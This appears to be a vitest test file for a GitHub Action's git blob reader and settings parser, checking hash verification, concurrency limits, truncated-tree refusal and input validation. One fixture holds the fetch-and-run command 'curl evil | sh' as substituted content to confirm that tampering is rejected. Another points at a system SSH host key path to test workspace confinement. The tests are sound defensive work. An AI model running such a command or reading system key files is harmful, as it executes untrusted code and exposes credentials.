import { describe, expect, it } from 'vitest';
import { BLOB_READS_IN_FLIGHT, gitBlobId, RestGitSource, type GitHubApi } from '../../src/adapters/github-api.ts';
import { readActionSettings } from '../../src/action/settings.ts';
import { freshKey } from '../helpers/keys.ts';
import { rejected } from '../helpers/errors.ts';

// A stand-in for our own narrow GitHubApi interface (not for GitHub): only the git reads are used.
function api(blobs: Record<string, Buffer>, truncated = false): GitHubApi {
  const unused = () => Promise.reject(new Error('not used'));
  return {
    tryGetRef: async () => ({ type: 'commit', sha: 'c'.repeat(40) }),
    listMatchingRefs: unused,
    getTag: unused,
    getCommitTree: async () => 't'.repeat(40),
    getTree: async () => ({
      truncated,
      entries: Object.keys(blobs).map((sha, i) => ({
        path: `remediations/svc/f${i}`,
        mode: '100644',
        type: 'blob',
        sha,
      })),
    }),
    getBlob: async (sha) => blobs[sha]!,
    tryGetReleaseByTag: unused,
    listReleases: unused,
    downloadAsset: unused,
    createRelease: unused,
    uploadAsset: unused,
    publishRelease: unused,
    listJobsForRunAttempt: unused,
    listArtifactsPage: unused,
    listRunApprovals: unused,
  };
}

async function codeOf(promise: Promise<unknown>): Promise<string | undefined> {
  return (await rejected(promise))?.code;
}

describe('RestGitSource', () => {
  it('accepts blobs whose bytes hash to their object id (git blob hash, as `git hash-object`)', async () => {
    const content = Buffer.from('hello\n');
    const oid = gitBlobId(content, 40);
    expect(oid).toBe('ce013625030ba8dba906f756967f9e9ca394464a'); // git hash-object of "hello\n"
    const source = new RestGitSource(api({ [oid]: content }));
    expect((await source.readBlobs([oid])).get(oid)).toEqual(content);
  });

  it('refuses content that does not hash to the requested object id (a substituted answer)', async () => {
    const oid = gitBlobId(Buffer.from('reviewed\n'), 40);
    const source = new RestGitSource(api({ [oid]: Buffer.from('curl evil | sh\n') }));
    expect(await codeOf(source.readBlobs([oid]))).toBe('DIGEST_MISMATCH');
  });

  it('reads many blobs with several requests in flight, not one round trip after another', async () => {
    const contents = Array.from({ length: 30 }, (_, i) => Buffer.from(`file ${i}\n`));
    const blobs = Object.fromEntries(contents.map((c) => [gitBlobId(c, 40), c]));
    let inFlight = 0;
    let most = 0;
    const slow = api(blobs);
    const source = new RestGitSource({
      ...slow,
      getBlob: async (sha) => {
        most = Math.max(most, ++inFlight);
        await new Promise((resolve) => setTimeout(resolve, 5));
        inFlight--;
        return slow.getBlob(sha);
      },
    });
    const read = await source.readBlobs(Object.keys(blobs));
    expect([...read.keys()].sort()).toEqual(Object.keys(blobs).sort());
    expect(most).toBe(BLOB_READS_IN_FLIGHT);
  });

  it('stops asking once one blob is refused, and reports that refusal', async () => {
    const good = Array.from({ length: 20 }, (_, i) => Buffer.from(`ok ${i}\n`));
    const blobs: Record<string, Buffer> = Object.fromEntries(good.map((c) => [gitBlobId(c, 40), c]));
    const badOid = gitBlobId(Buffer.from('reviewed\n'), 40);
    blobs[badOid] = Buffer.from('substituted\n');
    let asked = 0;
    const base = api(blobs);
    const source = new RestGitSource({ ...base, getBlob: async (sha) => (asked++, base.getBlob(sha)) });
    expect(await codeOf(source.readBlobs([badOid, ...Object.keys(blobs).filter((o) => o !== badOid)]))).toBe(
      'DIGEST_MISMATCH',
    );
    expect(asked).toBeLessThan(21);
  });

  it('refuses a truncated tree listing, which could leave files out of the digest', async () => {
    const source = new RestGitSource(api({ [gitBlobId(Buffer.from('x'), 40)]: Buffer.from('x') }, true));
    expect(await codeOf(source.listTree('c'.repeat(40), 'remediations/svc'))).toBe('UNSAFE_TREE');
  });
});

describe('readActionSettings', () => {
  const env = { GITHUB_WORKSPACE: '/ws', RUNNER_TEMP: '/tmp/rt', GITHUB_REPOSITORY: 'o/r', GITHUB_RUN_ID: '1' };
  const inputs = (extra: Record<string, string>) => (name: string) =>
    ({ remediation: 'svc@v1.0.0', 'trusted-keys': 'keys/k.pub', ...extra })[name] ?? '';

  it('refuses a params payload over 64 KB before parsing it', () => {
    const huge = JSON.stringify({ big: 'x'.repeat(70_000) });
    expect(() => readActionSettings(inputs({ params: huge }), env)).toThrow(/at most 65536/);
  });

  it('refuses key and manifest paths outside the workspace', () => {
    expect(() => readActionSettings(inputs({ 'trusted-keys': '/etc/ssh/ssh_host_ed25519_key.pub' }), env)).toThrow(
      /inside the workspace/,
    );
    expect(() => readActionSettings(inputs({ manifest: '../other/manifest.json' }), env)).toThrow(
      /inside the workspace/,
    );
  });

  it('keeps PEM keys and path lines given together, and refuses a private key', () => {
    const { publicPem, privatePem } = freshKey();
    const mixed = readActionSettings(inputs({ 'trusted-keys': `keys/a.pub\n${publicPem.trim()}\nkeys/b.pub\n` }), env);
    expect(mixed.trustedKeysPem).toHaveLength(1);
    expect(mixed.trustedKeyPaths).toEqual(['/ws/keys/a.pub', '/ws/keys/b.pub']);
    expect(() => readActionSettings(inputs({ 'trusted-keys': privatePem }), env)).toThrow(
      /private key does not belong/,
    );
  });

  it('encodes the record suffix in characters valid in artifact names and tags', () => {
    // Was 'web-1.example.com-8080-.x', which 'web-1.example.com-8080-.x' itself also gave (issue 11, item 17).
    expect(readActionSettings(inputs({ 'record-suffix': 'web-1.example.com:8080/..x' }), env).recordSuffix).toBe(
      'web-1.example.com_3a8080_2f_2e.x',
    );
  });
});
